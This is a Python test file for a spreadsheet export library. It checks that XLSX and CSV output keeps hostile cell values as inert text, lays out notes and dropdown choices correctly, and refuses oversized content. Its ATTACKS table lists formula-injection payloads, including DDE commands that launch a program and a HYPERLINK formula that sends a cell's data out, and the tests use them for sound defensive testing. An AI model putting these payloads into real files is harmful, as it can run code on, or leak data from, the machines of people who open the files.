"""XLSX out: texts stay texts under attack, what cannot be held is refused, and other people's readers agree."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from repatria.files import spreadsheet
from repatria.files.formulas import neutral, plain
from repatria.files.spreadsheet import Sheet, format_xlsx
from repatria.files.tables import format_csv, parse_table
from repatria.files.workbook import parse_workbook
from repatria.problem import Problems

ATTACKS = {
    "a formula that calls a program": "=cmd|' /C calc'!A0",
    "a formula behind a plus": "+1+cmd|' /C calc'!A0",
    "a formula behind a minus": "-1+cmd|' /C calc'!A0",
    "a function behind an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line end": "\r=1+1",
    "a link that carries a cell out": '=HYPERLINK("http://127.0.0.1/?"&A2,"open")',
    "a formula behind spaces": "  =1+1",
    "a full-width equals sign": "＝1+1",
    "a formula behind an apostrophe that somebody strips": "'=1+1",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_in_a_workbook_nothing_runs_and_the_text_is_as_it_was(attack: str) -> None:
    data = format_xlsx([Sheet("List", [[attack], [attack]])])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.data_type, cell.number_format, cell.quotePrefix) == ("s", "@", True)
        assert str(cell.value).replace("_x000D_", "\r") == attack  # openpyxl leaves this escape
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in parts
    assert b"<f " not in parts
    assert b"TargetMode" not in parts


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_in_a_text_table_nothing_runs_and_reading_it_gives_the_text_back(attack: str) -> None:
    data = format_csv(["name", "other"], [["Invented", attack]])
    assert data.decode("utf-8-sig").split("Invented,")[1].lstrip('"').startswith("'")
    assert parse_table(data, "f.csv").rows[0].cells == ("Invented", attack)


@given(st.text())
def test_a_cell_made_neutral_is_never_run_and_is_plain_again(cell: str) -> None:
    assert plain(neutral(cell)) == cell
    assert not neutral(cell).lstrip("'").startswith("=") or neutral(cell).startswith("'")


def test_the_same_sheets_give_the_same_bytes() -> None:
    sheets = [Sheet("List", [["a", "b"], ["1", "2"]], notes={(1, 1): "note"}, choices={0: ("x", "y")})]
    assert format_xlsx(sheets) == format_xlsx(sheets)


def test_notes_choices_and_direction_are_where_another_reader_looks_for_them() -> None:
    sheet = Sheet("قائمة", [["a", "b"], ["1", ""]], notes={(1, 1): "<look> & see"}, choices={1: ("x", "y & z")},
                  right_to_left=True)  # fmt: skip
    book = load_workbook(io.BytesIO(format_xlsx([sheet])))
    found = book.worksheets[0]
    assert found.sheet_view.rightToLeft
    assert found.freeze_panes == "A2"
    assert found["B2"].comment.text == "<look> & see"
    assert found["B2"].fill.fgColor.rgb != found["A2"].fill.fgColor.rgb
    (rule,) = found.data_validations.dataValidation
    assert (str(rule.sqref), rule.formula1, rule.type) == ("B2:B1048576", "Lists!$A$1:$A$2", "list")
    assert book["Lists"].sheet_state == "hidden"
    assert [cell.value for cell in book["Lists"]["A"]] == ["x", "y & z"]


cells = st.text(st.characters(exclude_categories=["Cs"]), max_size=20).map(str.strip)


@settings(max_examples=15, deadline=None)
@given(st.lists(st.lists(cells, min_size=3, max_size=3), min_size=20, max_size=40))
def test_any_text_is_read_back_as_it_was_written(rows: list[list[str]]) -> None:
    rows.append(["x", "y", "z"])  # or a last entry below an empty row would be taken for a signature, and said to be
    table = parse_workbook(format_xlsx([Sheet("List", [["a", "b", "c"], *rows])]), "f.xlsx")
    assert [list(row.cells) for row in table.rows] == [row for row in rows if any(row)]


@pytest.mark.parametrize(
    ("rows", "limit", "code"),
    [([["a"], ["b"], ["c"]], "MAX_ROWS", "file.xlsx.rows"), ([["a", "b", "c"]], "MAX_COLUMNS", "file.xlsx.columns"),
     ([["abc"]], "MAX_TEXT", "file.xlsx.text")],
)  # fmt: skip
def test_what_a_workbook_cannot_hold_is_refused_and_never_cut(
    monkeypatch: pytest.MonkeyPatch, rows: list[list[str]], limit: str, code: str
) -> None:
    monkeypatch.setattr(spreadsheet, limit, 2)
    with pytest.raises(Problems) as raised:
        format_xlsx([Sheet("List", rows)])
    assert [problem.code for problem in raised.value.problems] == [code]
    monkeypatch.setattr(spreadsheet, limit, 3)
    assert format_xlsx([Sheet("List", rows)])
